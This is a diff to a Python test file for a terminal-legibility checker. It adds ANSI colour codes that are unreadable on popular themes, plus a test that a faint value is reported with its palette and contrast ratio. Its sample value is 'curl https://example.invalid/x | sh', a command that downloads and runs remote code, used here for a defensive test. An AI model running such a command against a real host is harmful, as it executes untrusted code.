@@ -374,6 +374,14 @@ def _value_painted(sequence: str):
         "\x1b[97m",
         "\x1b[9m",
         "\x1b[8m",
+        "\x1b[38;2;255;255;0m",  # yellow: 1.07:1 on a light theme
+        "\x1b[38:5:17m",  # #00005f: 1.17:1 on a dark one
+        "\x1b[38;5;235m",  # #262626 on black
+        "\x1b[38:2::0:43:54m",  # Solarized Dark's own background
+        "\x1b[38;2;40;42;54m",  # Dracula's
+        "\x1b[38;2;30;30;30m",  # VS Code Dark+'s
+        "\x1b[33m",  # the theme's yellow: 1.70:1 on xterm's light palette
+        "\x1b[2m",  # dimmed: 1.88:1 on Solarized Light
     ],
 )
 def test_a_value_painted_so_that_it_cannot_be_read_fails_legible(sequence):
@@ -384,9 +392,19 @@ def test_a_value_painted_so_that_it_cannot_be_read_fails_legible(sequence):
         "complete",
     }
     assert (
-        run_width(payload, 80, 24, 400, {}, source=_value_painted("\x1b[1;38:5:208m")).violations
+        run_width(payload, 80, 24, 400, {}, source=_value_painted("\x1b[1;38:5:166m")).violations
         == []
     )
+
+
+def test_a_value_too_faint_on_a_theme_is_reported_with_its_colour_palette_and_ratio():
+    payload = _payload("curl https://example.invalid/x | sh")
+    judged = run_width(payload, 80, 24, 400, {}, source=_value_painted("\x1b[38;5;17m"))
+    messages = {v.message for v in judged.violations if v.invariant == "legible"}
+    assert messages == {
+        "row 3 draws 'curlhttps://example.invalid/x|' in #00005f on the default background: "
+        "1.08:1 on VS Code Dark+ (#00005f on #1e1e1e), under 3:1"
+    }
 
 
 def _framed(options):
